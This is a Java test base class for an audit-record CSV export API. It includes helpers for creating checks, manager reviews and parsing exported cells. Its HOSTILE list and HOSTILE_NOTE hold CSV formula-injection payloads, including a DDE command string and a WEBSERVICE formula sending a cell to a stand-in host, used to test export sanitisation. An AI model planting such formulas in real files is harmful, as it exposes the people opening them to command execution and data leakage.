package jp.ward.guard.story.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.List;
import jp.ward.guard.story.handover.HandoverStory;
import jp.ward.guard.testing.Api;
import jp.ward.guard.testing.Question;
import jp.ward.guard.testing.QuotedCsv;

/**
 * What the stories of exports share: who asked under which id, what was signed off, who exports.
 */
public abstract class ExportStory extends HandoverStory {

  public static final String EXPORT = "/api/v1/audit/export";
  public static final String SPAN = "?from=" + TODAY.minusDays(1) + "&until=" + TODAY;

  /** What spreadsheets run, as a member of staff could have himself named. */
  public static final List<String> HOSTILE =
      List.of(
          "=cmd|'/C+calc'!A0",
          "+1",
          "-2+3",
          "@SUM(1)",
          "＝１＋１",
          "=HYPERLINK(\"http://example.invalid/\",\"ここ\")");

  public static final String HOSTILE_NOTE = "=WEBSERVICE(\"http://example.invalid/\"&A1)を確かめた";

  public static RequestSpecification managerOf(String office) {
    return Api.by("m-export-" + office, office, "manager");
  }

  public static RequestSpecification auditor() {
    return Api.by("a-export", "14101-civil", "auditor");
  }

  public int asked(String upn, String office) {
    Response answer =
        Api.by(upn, office, "staff")
            .body(
                Question.sound()
                    .with("/about/0/identifiers", "[" + atB(number) + "]")
                    .with("/recipient/identifiers", "[" + atB(him) + "]")
                    .toString())
            .post(CHECKS);
    assertEquals(200, answer.statusCode(), answer.asString());
    return answer.path("receipt.entry");
  }

  public static void signedOff(RequestSpecification manager, int entry, String note) {
    String body = "{\"note\":\"" + note.replace("\"", "\\\"") + "\"}";
    Response signed = manager.body(body).post("/api/v1/audit/entries/" + entry + "/reviews");
    assertEquals(200, signed.statusCode(), signed.asString());
  }

  public static Response export(RequestSpecification reader, String query) {
    return reader.get(EXPORT + query);
  }

  public static Response exported(RequestSpecification reader, String query) {
    Response file = export(reader, query);
    assertEquals(200, file.statusCode(), file.asString());
    return file;
  }

  public static List<List<String>> rows(Response file) {
    return QuotedCsv.rows(file.asByteArray());
  }

  /** The cells below a heading. */
  public static List<String> column(List<List<String>> rows, String heading) {
    int index = rows.get(0).indexOf(heading);
    return rows.stream().skip(1).map(row -> row.get(index)).toList();
  }

  public static String cell(List<List<String>> rows, int entry, String heading) {
    int row = column(rows, "記録番号").indexOf(Integer.toString(entry));
    return column(rows, heading).get(row);
  }
}
